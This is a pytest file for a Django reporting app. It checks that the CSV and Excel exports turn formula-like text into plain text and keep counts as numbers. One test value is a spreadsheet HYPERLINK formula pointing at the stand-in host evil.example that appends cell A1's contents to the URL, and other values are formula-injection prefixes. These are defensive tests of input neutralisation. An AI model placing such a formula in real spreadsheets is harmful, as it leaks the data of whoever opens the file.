"""The CSV and Excel exports are meant for publication: text a representative or the staff typed
reaches them as text, never as a formula, and the counts stay numbers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iop.exports import cell
from reporting.services.reports import report_accept, report_submit
from tests.reporting.conftest import valid_raw

LINK = '=HYPERLINK("http://evil.example/x?"&A1,"Klicka")'
EXPORTS = [
    ("reporting:halfyear_export", "halfyear", "csv"),
    ("reporting:halfyear_export", "halfyear", "xlsx"),
    ("reporting:annual_export", "annual", "csv"),
    ("reporting:annual_export", "annual", "xlsx"),
]


@pytest.fixture
def formula_report(side_a, staff):
    """An accepted report whose country lines are formulas, in the normal path: typed in the
    report form, parsed, summed into the half-year and the annual compilation."""
    raw = valid_raw(side_a.template, 30, 20, 9, 1)
    raw["country"] = f"{LINK}: 20\n@SUM(1+1): 6"
    report_submit(side_a.report, raw=raw, actor=side_a.user)
    report_accept(side_a.report, actor=staff)
    return side_a


def _rows(response, fmt):
    """Every row as [(value, is_text)], read back as a spreadsheet program would."""
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [
            [(value, not value.isdigit()) for value in row]
            for row in csv.reader(io.StringIO(text), delimiter=";")
        ]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(c.data_type in ("s", "n") for row in sheet.iter_rows() for c in row)
    return [[(c.value, c.data_type == "s") for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(("name", "attr", "fmt"), EXPORTS)
def test_export_writes_formulas_as_text_and_counts_as_numbers(
    formula_report, staff_client, name, attr, fmt
):
    pk = getattr(formula_report, attr).pk
    response = staff_client.get(reverse(name, args=[pk, fmt]))
    assert response.status_code == 200
    rows = _rows(response, fmt)
    by_label = {row[1][0]: row[2] for row in rows}
    number = int if fmt == "xlsx" else str  # a CSV has no types: a bare, unquoted "20"
    assert by_label["'" + LINK] == (number(20), False)
    assert by_label["'@SUM(1+1)"] == (number(6), False)
    assert by_label["Personer som nåtts"][1] is False  # the total, a number
    for row in rows:
        for value, is_text in row:
            if is_text:
                assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8 508 00", "'+46 8 508 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x01=1", "'=1"),  # a control character cannot hide the formula
        ("Syrien", "Syrien"),
        ("<5", "<5"),
        (-2, -2),
        (42, 42),
    ],
)
def test_cell_neutralises_text_and_keeps_numbers(value, expected):
    assert cell(value) == expected
